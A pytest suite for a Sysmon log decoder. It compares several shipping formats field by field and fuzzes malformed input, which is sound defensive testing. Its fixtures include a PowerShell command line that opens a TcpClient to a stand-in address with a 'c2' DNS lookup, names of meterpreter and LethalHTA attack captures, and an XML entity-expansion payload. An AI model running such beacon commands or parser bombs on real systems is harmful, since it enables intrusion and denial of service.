"""Sysmon decoding: the real samples of every shipping format against an independent reading, the generated
formats field by field, the Winlogbeat fast path against the generic one, and malformed/hostile input counted."""

from __future__ import annotations

import ipaddress
import json
import xml.etree.ElementTree as ET

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analytics.endpoint import EndpointBatch, EndpointBatchBuilder
from collector.hostlogs import sysmon
from collector.hostlogs.decoder import HostLogDecoder
from tests.collector.hostlogs.sysmon_events import event_xml, nxlog, sysmon_event, wazuh, winlogbeat

SYSMON_DIR = "host_logs/windows_sysmon"
EVTX_FILES = [
    "evtx_DE_sysmon-3-rdp-tun",
    "evtx_Exec_sysmon_meterpreter_reversetcp_msipackage",
    "evtx_LM_DCOM_MSHTA_LethalHTA_Sysmon_3_1",
    "evtx_exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11",
    "evtx_exec_wmic_xsl_internet_sysmon_3_1_11",
]
OTRF = "otrf_cmd_bitsadmin_download_psh_script_2020-10-2302365189.json"
NS = "{http://schemas.microsoft.com/win/2004/08/events/event}"


def sample(corpus, name):
    path = corpus / SYSMON_DIR / name
    if not path.is_file():
        pytest.skip(f"{SYSMON_DIR}/{name} is not in the corpus")
    return path


def decode_file(path) -> tuple[EndpointBatch, HostLogDecoder]:
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.decode_file(str(path), b)
    return b.build(), dec


def decoded(batch: EndpointBatch) -> list[tuple]:
    """(code, executable, pid, command line, destination ip, destination port) of every row, from to_ecs."""
    out = []
    for i in range(len(batch)):
        e = batch.to_ecs(i)
        p = e.get("process", {})
        d = e.get("destination", {})
        out.append((int(e["event"]["code"]), p.get("executable"), p.get("pid"), p.get("command_line"), d.get("ip"),
                    d.get("port")))
    return out


def ip(text: str) -> str:
    """An address in its canonical text (Sysmon writes IPv6 uncompressed and IPv4 answers IPv4-mapped)."""
    a = ipaddress.ip_address(text)
    return str(a.ipv4_mapped or a) if a.version == 6 else str(a)


def expected_row(eid: int, data: dict) -> list[tuple]:
    """The rows an event should give, read straight from its event data (Sysmon's names)."""
    def num(v):
        return int(v) if v not in (None, "", "-") else None

    image = data.get("Image") or None
    pid = num(data.get("ProcessId"))
    if eid == 1:
        return [(1, image, pid, data.get("CommandLine") or None, None, None)]
    if eid == 3:
        return [(3, image, pid, None, ip(data["DestinationIp"]), num(data.get("DestinationPort")))]
    if eid == 5:
        return [(5, image, pid, None, None, None)]
    if eid == 22:
        answers = [a for a in (data.get("QueryResults") or "").split(";") if a and not a.startswith("type:")]
        answers = [ip(a) for a in dict.fromkeys(answers)]
        return [(22, image, pid, None, a, None) for a in answers] or [(22, image, pid, None, None, None)]
    return []


def xml_events(root) -> list[tuple[int, str, dict]]:
    """(event id, channel, event data) of every <Event> under an ElementTree element."""
    out = []
    for ev in root.iter(NS + "Event"):
        system = ev.find(NS + "System")
        data = {d.get("Name"): d.text or "" for d in ev.iter(NS + "Data")}
        out.append((int(system.find(NS + "EventID").text), system.find(NS + "Channel").text, data))
    return out


# -- the real samples --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", EVTX_FILES)
def test_evtx_sample_matches_python_evtx(corpus, name):
    from Evtx.Evtx import Evtx

    path = sample(corpus, name + ".evtx")
    expected = []
    with Evtx(str(path)) as f:
        for record in f.records():
            for eid, channel, data in xml_events(ET.fromstring(record.xml())):
                expected += expected_row(eid, data)
    batch, dec = decode_file(path)
    assert expected, "the sample holds Sysmon events 1/3/5/22"
    assert decoded(batch) == expected
    assert not dec.rejected
    assert sum(dec.records.values()) == len(batch)


@pytest.mark.parametrize("name", EVTX_FILES)
def test_xml_sample_matches_its_own_reading_and_the_evtx(corpus, name):
    path = sample(corpus, name + ".xml")
    expected = []
    for eid, channel, data in xml_events(ET.parse(path).getroot()):
        expected += expected_row(eid, data)
    batch, dec = decode_file(path)
    assert decoded(batch) == expected
    assert not dec.rejected
    # The same events read from the binary file: every ECS field equal (ProcessGuid case and braces normalised).
    evtx_batch, _ = decode_file(sample(corpus, name + ".evtx"))
    assert [batch.to_ecs(i) for i in range(len(batch))] == [evtx_batch.to_ecs(i) for i in range(len(evtx_batch))]


@pytest.mark.parametrize("name", ["wazuh_sysmon_eid_1_extracted.jsonl", "wazuh_sysmon_eid_3_extracted.jsonl"])
def test_wazuh_sample(corpus, name):
    path = sample(corpus, name)
    expected = []
    for line in path.read_text().splitlines():
        win = json.loads(line)["win"]
        # Wazuh writes the event data with its first letters lower-cased and each backslash doubled.
        data = {k[0].upper() + k[1:]: v.replace("\\\\", "\\") for k, v in win["eventdata"].items()}
        expected += expected_row(int(win["system"]["eventID"]), data)
    batch, dec = decode_file(path)
    assert len(expected) == len(batch) > 0
    assert decoded(batch) == expected
    assert not dec.rejected
    first = batch.to_ecs(0)
    assert "\\\\" not in first["process"]["executable"] and first["process"]["executable"].startswith("C:\\")


@pytest.mark.parametrize("name", ["wazuh_sysmon_eid_1", "wazuh_sysmon_eid_3"])
def test_wazuh_ruleset_lines_decode_like_the_extracted_json(corpus, name):
    """The ruleset's ``log N pass = {json}`` lines go through the wrapper-stripping line path."""
    ini = sample(corpus, name + ".ini")
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.feed_lines((line for line in ini.read_bytes().splitlines() if line.startswith(b"log ")), b)
    batch = b.build()
    extracted, _ = decode_file(sample(corpus, name + "_extracted.jsonl"))
    assert decoded(batch) == decoded(extracted)
    assert not dec.rejected


def test_otrf_nxlog_sample(corpus):
    path = sample(corpus, OTRF)
    expected = []
    skipped = 0
    for line in path.read_text().splitlines():
        o = json.loads(line)
        if o["Channel"] == "Microsoft-Windows-Sysmon/Operational" and o["EventID"] in (1, 3, 5, 22):
            expected += expected_row(o["EventID"], o)
        elif o["Channel"] == "Security" and o["EventID"] == 5156:
            # WFP's Source is the local end; an inbound connection is turned round so source is the initiator.
            inbound = o["Direction"] == "%%14592"
            ip, port = (o["SourceAddress"], o["SourcePort"]) if inbound else (o["DestAddress"], o["DestPort"])
            expected.append((5156, o["Application"], int(o["ProcessID"]), None, ip, int(port)))
        else:
            skipped += 1
    batch, dec = decode_file(path)
    assert decoded(batch) == expected
    assert {c for c, *_ in expected} == {1, 3, 5, 22, 5156}
    assert sum(dec.skipped.values()) == skipped
    assert not dec.rejected


# -- generated events in each shipping format ----------------------------------------------------------------------
T0 = 1_733_220_000.0


def scenario_events():
    guid = "{4dc16835-e854-6116-9224-950000000000}"
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    return [
        sysmon_event(1, T0, ProcessGuid=guid, ProcessId=5888, Image=ps, User="CORP\\alice",
                     CommandLine=f'{ps} -nop -c "$c=New-Object System.Net.Sockets.TcpClient(\'203.0.113.7\',8883)"'),
        sysmon_event(22, T0 + 1, ProcessGuid=guid, ProcessId=5888, Image=ps, User="CORP\\alice",
                     QueryName="c2.dyndns.example", QueryResults="type:  5 edge.example;::ffff:203.0.113.7;"),
        sysmon_event(3, T0 + 2, ProcessGuid=guid, ProcessId=5888, Image=ps, User="CORP\\alice", SourceIp="10.1.1.10",
                     SourcePort=50152, DestinationIp="203.0.113.7", DestinationPort=8883),
        sysmon_event(5, T0 + 300, ProcessGuid=guid, ProcessId=5888, Image=ps, User="CORP\\alice"),
    ]


EXPECTED_ECS = [
    {"event": {"action": "process_start", "code": "1"}},
    {"event": {"action": "dns_query", "code": "22"},
     "destination": {"ip": "203.0.113.7", "domain": "c2.dyndns.example"}},
    {"event": {"action": "network_connect", "code": "3"},
     "source": {"ip": "10.1.1.10", "port": 50152}, "destination": {"ip": "203.0.113.7", "port": 8883},
     "network": {"iana_number": "6"}},
    {"event": {"action": "process_end", "code": "5"}},
]


def render(fmt, ev) -> bytes:
    if fmt == "xml":
        return event_xml(ev).encode()
    return orjson.dumps({"winlogbeat": winlogbeat, "wazuh": wazuh, "nxlog": nxlog}[fmt](ev))


@pytest.mark.parametrize("fmt", ["winlogbeat", "wazuh", "nxlog", "xml"])
def test_generated_formats_give_the_same_events(fmt):
    events = scenario_events()
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.feed_lines([render(fmt, ev) for ev in events], b)
    batch = b.build()
    assert len(batch) == 4 and not dec.rejected and dec.records["sysmon"] == 4
    for i, (ev, want) in enumerate(zip(events, EXPECTED_ECS)):
        e = batch.to_ecs(i)
        assert e["event"]["action"] == want["event"]["action"] and e["event"]["code"] == want["event"]["code"]
        assert e["event"]["dataset"] == "sysmon" and e["host"] == {"os": {"type": "windows"}, "name": ev["host"]}
        assert e["@timestamp"] == f"2024-12-03T{10 + int(ev['ts'] - T0) // 3600:02d}:" \
            f"{int(ev['ts'] - T0) % 3600 // 60:02d}:{int(ev['ts'] - T0) % 60:02d}.000000Z"
        assert e["process"]["executable"] == ev["data"]["Image"]
        assert e["process"]["name"] == "powershell.exe"
        assert e["process"]["pid"] == 5888
        assert e["process"]["entity_id"] == "{4dc16835-e854-6116-9224-950000000000}"
        assert e["user"] == {"name": "alice"}
        for key in ("source", "destination", "network"):
            if key in want:
                assert e[key] == want[key]
    start = batch.to_ecs(0)
    assert start["process"]["command_line"] == events[0]["data"]["CommandLine"]
    assert start["process"]["parent"] == {"executable": "C:\\Windows\\explorer.exe", "pid": 4120}


def test_syslog_wrapped_records():
    ev = scenario_events()[2]
    lines = [
        b"<14>Dec  3 10:00:02 ws01 winlogbeat: " + render("winlogbeat", ev),
        b"<13>1 2024-12-03T10:00:02Z wazuh-manager ossec - - - " + render("wazuh", ev),
        b"<14>Dec  3 10:00:02 ws01 nxlog[1234]: " + render("nxlog", ev),
        b"<14>Dec  3 10:00:02 ws01 sysmon: " + render("xml", ev),
    ]
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.feed_lines(lines, b)
    batch = b.build()
    assert dec.records["sysmon"] == 4 and not dec.rejected
    assert len({json.dumps(batch.to_ecs(i), sort_keys=True) for i in range(4)}) == 1


def test_inbound_connection_keeps_the_initiator_as_source():
    ev = sysmon_event(3, T0, Image="C:\\x\\svc.exe", ProcessId=4, Initiated="false", SourceIp="198.51.100.9",
                      SourcePort=50000, DestinationIp="10.1.1.10", DestinationPort=1883)
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.feed_line(render("winlogbeat", ev), b)
    e = b.build().to_ecs(0)
    assert e["event"]["action"] == "network_accept" and e["network"]["direction"] == "ingress"
    assert e["source"] == {"ip": "198.51.100.9", "port": 50000}
    assert e["destination"] == {"ip": "10.1.1.10", "port": 1883}


def test_dns_query_without_answers_is_one_row_without_an_address():
    ev = sysmon_event(22, T0, Image="C:\\x\\a.exe", ProcessId=9, QueryName="nx.example", QueryStatus="9003",
                      QueryResults="-")
    b = EndpointBatchBuilder()
    HostLogDecoder().feed_line(render("winlogbeat", ev), b)
    e = b.build().to_ecs(0)
    assert e["destination"] == {"domain": "nx.example"}


def test_winlogbeat_ecs_fields_fill_in_what_a_processor_moved():
    """Winlogbeat 7's sysmon processor moves event data into ECS fields; the decoder reads them there."""
    doc = {
        "@timestamp": "2024-12-03T10:00:00.500Z",
        "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 3, "computer_name": "WS01",
                   "event_data": {"UtcTime": "2024-12-03 10:00:00.250"}},
        "process": {"executable": "C:\\x\\mqtt.exe", "pid": 77, "entity_id": "{ABC}"},
        "source": {"ip": "10.1.1.10", "port": 50001}, "destination": {"ip": "203.0.113.9", "port": 8883},
        "network": {"transport": "tcp", "direction": "outbound"}, "user": {"name": "bob"},
    }
    b = EndpointBatchBuilder()
    HostLogDecoder().feed_line(orjson.dumps(doc), b)
    e = b.build().to_ecs(0)
    assert e["process"] == {"executable": "C:\\x\\mqtt.exe", "name": "mqtt.exe", "entity_id": "{abc}", "pid": 77}
    assert e["destination"] == {"ip": "203.0.113.9", "port": 8883} and e["user"] == {"name": "bob"}
    assert e["@timestamp"] == "2024-12-03T10:00:00.250000Z"


def test_other_events_and_channels_are_skipped_not_rejected():
    ev = sysmon_event(3, T0, Image="C:\\x\\a.exe", DestinationIp="203.0.113.1")
    image_load = dict(winlogbeat(ev), winlog=dict(winlogbeat(ev)["winlog"], event_id="7"))
    security = dict(winlogbeat(ev), winlog=dict(winlogbeat(ev)["winlog"], channel="Security", event_id="4624"))
    other = dict(winlogbeat(ev), winlog=dict(winlogbeat(ev)["winlog"], channel="Application"))
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.feed_lines([orjson.dumps(o) for o in (image_load, security, other)], b)
    assert len(b) == 0 and not dec.rejected
    assert dict(dec.skipped) == {("sysmon", "event_7"): 1, ("sysmon", "security_event"): 1, ("sysmon", "channel"): 1}


# -- the Winlogbeat fast path reads what the generic path reads ----------------------------------------------------
_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
_field = st.one_of(st.sampled_from(["", "-", "C:\\a\\b.exe", "\\\\srv\\share\\x.exe"]), _text)
_addr = st.one_of(st.ip_addresses().map(str), _field)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(fmt=st.sampled_from(["winlogbeat", "wazuh", "nxlog"]), eid=st.sampled_from([1, 3, 5, 22, 7]), image=_field,
       cmd=_field, user=_field, guid=_field, pid=st.one_of(st.integers(-5, 2**40).map(str), _field), dst=_addr,
       port=st.one_of(st.integers(-1, 70000).map(str), _field), initiated=st.sampled_from(["true", "false", "x", ""]),
       results=_field)
def test_fast_paths_equal_the_generic_path(fmt, eid, image, cmd, user, guid, pid, dst, port, initiated, results):
    fields = dict(Image=image, CommandLine=cmd, User=user, ProcessGuid=guid, ProcessId=pid, DestinationIp=dst,
                  DestinationPort=port, Initiated=initiated, QueryName="q.example", QueryResults=results)
    ev = sysmon_event(eid if eid != 7 else 5, T0, **fields)
    for k in ev["data"]:
        if k in fields:
            ev["data"][k] = fields[k]
    ev["eid"] = eid
    line = render(fmt, ev)

    def run(generic: bool):
        dec = HostLogDecoder()
        b = EndpointBatchBuilder()
        if generic:
            dec.decode_object(orjson.loads(line), b)
        else:
            dec.feed_line(line, b)
        batch = b.build()
        return [batch.to_ecs(i) for i in range(len(batch))], dict(dec.records), dict(dec.rejected), dict(dec.skipped)

    fast = run(False)
    generic = run(True)
    assert fast[0] == generic[0]
    assert (fast[1], set(fast[2]), fast[3]) == (generic[1], set(generic[2]), generic[3])


# -- malformed, truncated and hostile input: counted by reason, never raised ---------------------------------------
def test_truncated_xml_costs_only_the_cut_event(corpus):
    data = sample(corpus, "evtx_exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.xml").read_bytes()
    full, _ = decode_file(sample(corpus, "evtx_exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.xml"))
    for cut in range(0, len(data), 97):
        dec = HostLogDecoder()
        b = EndpointBatchBuilder()
        dec.decode_xml(data[:cut], b)
        assert set(dec.rejected) <= {"truncated", "xml"}
        assert len(b) <= len(full)
    # Cut inside the fourth event: the three before it decode, the cut one is counted.
    starts = [i for i in range(len(data)) if data.startswith(b"<Event xmlns", i)]
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.decode_xml(data[:starts[3] + 200], b)
    assert dict(dec.rejected) == {"truncated": 1}
    assert decoded(b.build()) == decoded(full)[:3]


def test_an_event_cut_in_the_middle_of_a_document_does_not_lose_the_rest():
    evs = scenario_events()
    xml = [event_xml(ev) for ev in evs]
    doc = ("<Events>" + xml[0] + xml[1][: len(xml[1]) // 2] + xml[2] + xml[3] + "</Events>").encode()
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.decode_xml(doc, b)
    assert dict(dec.rejected) == {"truncated": 1}
    assert [r[0] for r in decoded(b.build())] == [1, 3, 5]


@pytest.mark.parametrize("data, reason", [
    (b'{"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 3, "event_data": {', "json"),
    (b'{"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "3", "event_data": '
     b'{"UtcTime": "2024-12-03 10:00:00.000", "Image": "C:\\\\a.exe"}}}', "missing_field"),
    (b'{"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "event_data": '
     b'{"Image": "C:\\\\a.exe"}}}', "missing_field"),
    (b'{"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "event_data": '
     b'{"UtcTime": "9999-12-31 23:59:59.999", "Image": "C:\\\\a.exe"}}}', "bad_time"),  # past int64 ns: parse_time_ns says so
    (b'{"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "event_data": '
     b'{"UtcTime": "yesterday", "Image": "C:\\\\a.exe"}}}', "bad_time"),
    (b'{"winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "event_data": '
     b'{"UtcTime": "2024-12-03 10:00:00.000", "Image": {"nested": 1}}}}', "bad_value"),
    (b'{"winlog": "not an object"}', "bad_value"),
    (b'{"win": {"eventdata": {}}}', "missing_field"),
    (b'{"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "UtcTime": "2024-12-03 10:00:00.000"}',
     "missing_field"),
    (b'{"EventID": 5156, "Channel": "Security", "@timestamp": "2024-12-03T10:00:00Z"}', "missing_field"),
    (b"[" * 600_000 + b"]" * 600_000, "too_large"),
    (b"[" * 5000 + b"]" * 5000, "json"),
    (b"<Event><System><EventID>1</EventID>", "truncated"),
    (b"<Event><System><EventID>1</Event ID></System></Event>", "xml"),
    (b"<Event><EventData/></Event>", "missing_field"),
    (b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Event><System>&b;</System></Event>', "xml_doctype"),
    (b"<Event>" + b"<x>" * 100_000 + b"</x>" * 100_000 + b"</Event>", "too_large"),
])
def test_malformed_records_are_counted_by_reason(data, reason):
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    if data.startswith(b"<"):
        dec.decode_xml(data, b)  # a file's document: the line path would strip what precedes <Event as a header
    else:
        dec.feed_line(data, b)
    assert dict(dec.rejected) == {reason: 1}
    assert len(b) == 0


def test_deeply_nested_xml_within_the_size_cap_is_read_or_counted():
    deep = b"<x>" * 20_000 + b"</x>" * 20_000
    data = (b"<Event><System><EventID>3</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System>"
            b"<EventData><Data Name='Image'>" + deep + b"</Data></EventData></Event>")
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.decode_xml(data, b)
    assert sum(dec.rejected.values()) == 1 and len(b) == 0


def test_damaged_and_foreign_evtx_files_are_counted(corpus, tmp_path):
    real = sample(corpus, "evtx_DE_sysmon-3-rdp-tun.evtx").read_bytes()
    cases = {
        "header_only.evtx": real[:4096],
        "half.evtx": real[: len(real) // 2],
        "garbage.evtx": b"ElfFile\x00" + bytes(range(256)) * 64,
        "flipped.evtx": real[:5000] + bytes(b ^ 0x5A for b in real[5000:9000]) + real[9000:],
    }
    for name, data in cases.items():
        path = tmp_path / name
        path.write_bytes(data)
        batch, dec = decode_file(path)  # never raises
        assert sum(dec.records.values()) == len(batch)
        assert set(dec.rejected) <= {"evtx", "bad_value", "missing_field", "bad_time"}
        assert dec.rejected["evtx"] >= 1, name


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=600))
def test_fuzzed_lines_never_raise(data):
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    for prefix in (b"", b"{", b"<Event>", b'{"winlog":', b'{"win":{"system":'):
        dec.feed_line(prefix + data, b)
    b.build()


_json = st.recursive(
    st.none() | st.booleans() | st.integers(-2**70, 2**70) | st.floats(allow_nan=False) | _text,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_text, inner, max_size=4), max_leaves=20,
)
_keys = st.sampled_from(["UtcTime", "ProcessGuid", "ProcessId", "Image", "CommandLine", "User", "DestinationIp",
                         "DestinationPort", "SourceIp", "SourcePort", "Initiated", "Protocol", "QueryName",
                         "QueryResults", "ParentProcessId", "ParentImage"])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(eid=st.one_of(st.sampled_from([1, 3, 5, 22, "3", 5156]), _json), data=st.dictionaries(_keys, _json),
       channel=st.sampled_from(["Microsoft-Windows-Sysmon/Operational", "Security", "Linux-Sysmon/Operational"]))
def test_fuzzed_objects_of_every_dialect_never_raise(eid, data, channel):
    docs = [
        {"winlog": {"channel": channel, "event_id": eid, "event_data": data}},
        {"win": {"system": {"channel": channel, "eventID": eid}, "eventdata": {k[0].lower() + k[1:]: v
                                                                               for k, v in data.items()}}},
        dict(data, EventID=eid, Channel=channel),
    ]
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    for doc in docs:
        try:
            line = orjson.dumps(doc, option=orjson.OPT_NON_STR_KEYS)
        except orjson.JSONEncodeError:
            continue
        dec.feed_line(line, b)
        dec.decode_object(doc, b)
    b.build()
    assert sum(dec.records.values()) == len(b)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_mutated_real_xml_never_raises(data):
    text = ("<Events>" + "".join(event_xml(ev) for ev in scenario_events()) + "</Events>").encode()
    pos = data.draw(st.integers(0, len(text) - 1))
    junk = data.draw(st.binary(max_size=8))
    mutated = text[:pos] + junk + text[pos + data.draw(st.integers(0, 8)):]
    dec = HostLogDecoder()
    b = EndpointBatchBuilder()
    dec.decode_xml(mutated, b)
    assert sum(dec.records.values()) == len(b) <= 4


def test_builder_fast_append_equals_add():
    a, b = EndpointBatchBuilder(), EndpointBatchBuilder()
    a.add(5, 2, 1, "sysmon", host="h", pid=3, executable="C:\\x\\y.exe", src_ip="10.0.0.1", src_port=70000,
          dst_ip="::ffff:1.2.3.4", dst_port=80, proto=6, entity_id="{e}", code=3, inbound=True)
    b.append(5, 2, 1, sysmon._DS, "h", 3, -1, "C:\\x\\y.exe", None, None, None, None, "10.0.0.1", 70000,
             "::ffff:1.2.3.4", 80, 6, None, "{e}", 3, True)
    assert a.build().to_ecs(0) == b.build().to_ecs(0)
    assert a.build().to_ecs(0)["destination"] == {"ip": "1.2.3.4", "port": 80}
    with pytest.raises(ValueError):
        a.append(2**64, 2, 1, 0, None, -1, -1, None, None, None, None, None, None, 0, None, 0, 0, None, None, 0, False)


def test_sysmon_for_linux_through_syslog_is_a_linux_event():
    """Sysmon for Linux writes the same event XML to syslog, provider Linux-Sysmon (Sysinternals SysmonForLinux)."""
    line = (
        b"<14>Dec  3 10:00:00 web01 sysmon: <Event><System><Provider Name=\"Linux-Sysmon\" "
        b"Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>3</EventID><Version>5</Version><Level>4</Level>"
        b"<Task>3</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
        b"<TimeCreated SystemTime=\"2024-12-03T10:00:00.123456000Z\"/><EventRecordID>42</EventRecordID><Correlation/>"
        b"<Execution ProcessID=\"812\" ThreadID=\"812\"/><Channel>Linux-Sysmon/Operational</Channel>"
        b"<Computer>web01</Computer><Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data>"
        b"<Data Name=\"UtcTime\">2024-12-03 10:00:00.120</Data>"
        b"<Data Name=\"ProcessGuid\">{9a5e6b3c-1f2d-674e-0000-00000000a101}</Data><Data Name=\"ProcessId\">4242</Data>"
        b"<Data Name=\"Image\">/usr/bin/mosquitto_pub</Data><Data Name=\"User\">alice</Data>"
        b"<Data Name=\"Protocol\">tcp</Data><Data Name=\"Initiated\">true</Data>"
        b"<Data Name=\"SourceIsIpv6\">false</Data>"
        b"<Data Name=\"SourceIp\">10.1.1.20</Data><Data Name=\"SourceHostname\">-</Data>"
        b"<Data Name=\"SourcePort\">40000</Data><Data Name=\"SourcePortName\">-</Data>"
        b"<Data Name=\"DestinationIsIpv6\">false</Data><Data Name=\"DestinationIp\">203.0.113.50</Data>"
        b"<Data Name=\"DestinationHostname\">-</Data><Data Name=\"DestinationPort\">1883</Data>"
        b"<Data Name=\"DestinationPortName\">-</Data></EventData></Event>"
    )
    b = EndpointBatchBuilder()
    dec = HostLogDecoder()
    dec.feed_line(line, b)
    e = b.build().to_ecs(0)
    assert e["host"] == {"os": {"type": "linux"}, "name": "web01"}
    assert e["process"]["name"] == "mosquitto_pub" and e["user"] == {"name": "alice"}
    assert e["destination"] == {"ip": "203.0.113.50", "port": 1883}
